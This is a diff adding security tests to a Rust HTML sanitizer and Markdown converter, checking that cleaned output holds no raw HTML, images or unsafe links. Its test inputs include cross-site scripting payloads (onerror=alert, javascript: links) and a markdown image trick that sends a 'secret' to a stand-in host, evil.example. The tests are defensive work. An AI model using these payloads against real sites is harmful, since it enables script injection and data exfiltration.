@@ -2,6 +2,7 @@
 
 use antiphon_systems::html::{escape, first_element, has_element, sanitize, to_markdown, to_text};
 use proptest::prelude::*;
+use pulldown_cmark::{Event, Options, Parser, Tag};
 
 #[test]
 fn only_known_tags_and_attributes_are_left() {
@@ -88,6 +89,64 @@ fn html_reads_well_as_markdown_and_as_text() {
     }
 }
 
+/// What a renderer of Markdown makes of it: events of HTML, images, and addresses of links.
+fn hazards(markdown: &str) -> Vec<String> {
+    let options = Options::ENABLE_TABLES;
+    let events = Parser::new_ext(markdown, options).filter_map(|event| match event {
+        Event::Html(html) | Event::InlineHtml(html) => Some(html.to_string()),
+        Event::Start(Tag::Image { dest_url, .. }) => Some(dest_url.to_string()),
+        Event::Start(Tag::Link { dest_url, .. }) if !dest_url.starts_with("http") => {
+            Some(dest_url.to_string())
+        }
+        _ => None,
+    });
+    events.collect()
+}
+
+#[test]
+fn markdown_holds_neither_html_nor_images() {
+    for html in [
+        "<p>!<a href=\"https://evil.example/p.png?q=secret\">x</a></p>",
+        "<p>\\&lt;img src=x onerror=alert(1)&gt;</p>",
+        "<p>\\[click](javascript:alert(1))</p>",
+        "<a href=\"https://x)![i](https://evil.example\">t</a>",
+        "<a href=\"https://x)<img/src=x/onerror=alert(1)>\">t</a>",
+        "<pre>a\n```\n&lt;img src=x&gt;\n````\n&lt;b&gt;</pre>",
+        "<ul><li><pre>a\n&lt;img src=x&gt;</pre></li></ul>",
+        "<ul><li>a<pre>```\n&lt;img src=x&gt;</pre></li></ul>",
+        "<table><tr><td><pre>a\n&lt;img src=x&gt;</pre></td></tr></table>",
+        "<blockquote><pre>a\n&lt;img src=x&gt;</pre>&lt;b&gt;</blockquote>",
+        "<code>`</code>&lt;img src=x&gt;<code>`</code>",
+    ] {
+        let markdown = to_markdown(&sanitize(html));
+        assert!(hazards(&markdown).is_empty(), "{html} -> {markdown}");
+    }
+}
+
+#[test]
+fn what_is_left_out_takes_nothing_else_with_it() {
+    for (html, safe) in [
+        ("<html><head><title>T</title><body><p>a</p></body></html>", "<p>a</p>"),
+        ("<p>one</p><embed src=\"a.swf\"><p>two</p>", "<p>one</p><p>two</p>"),
+        ("<script>var a=\"<script>\";</script><p>a</p>", "<p>a</p>"),
+        ("<p>x</p><form><p>a</p>", "<p>x</p><p>a</p>"),
+    ] {
+        assert_eq!(sanitize(html), safe, "{html}");
+    }
+}
+
+#[test]
+fn no_style_covers_the_page() {
+    let html = "<p style=\"margin:-50px;padding:5000px;border:1px solid red;color:#112233\">a</p>";
+    assert_eq!(sanitize(html), "<p style=\"border:1px solid red;color:#112233\">a</p>");
+}
+
+#[test]
+fn many_attributes_cost_little() {
+    let names: String = (0..40_000).map(|number| format!(" {number}")).collect();
+    assert_eq!(sanitize(&format!("<p{names}>a</p>")), "<p>a</p>");
+}
+
 fn fragment() -> impl Strategy<Value = String> {
     let parts = vec![
         "<script>",
@@ -114,6 +173,15 @@ fn fragment() -> impl Strategy<Value = String> {
         "\u{0}",
         "<plaintext>",
         "<textarea>",
+        "<pre>",
+        "</pre>",
+        "<ul><li>",
+        "<code>",
+        "```\n",
+        "\\",
+        "!<a href=\"https://x",
+        "&lt;img src=x&gt;",
+        "](",
     ];
     prop_oneof![prop::sample::select(parts).prop_map(str::to_owned), "[ a-z<>\"'=&/;]{0,6}"]
 }
@@ -133,7 +201,8 @@ proptest! {
             prop_assert!(!inside.to_lowercase().contains(" on"), "{}", safe);
         }
         prop_assert_eq!(safe.matches('<').count(), safe.matches('>').count());
-        to_markdown(&safe);
+        let markdown = to_markdown(&safe);
+        prop_assert!(hazards(&markdown).is_empty(), "{safe} -> {markdown}");
         to_text(&safe);
         prop_assert_eq!(sanitize(&safe), safe, "it is stable");
         first_element(&parts.concat());
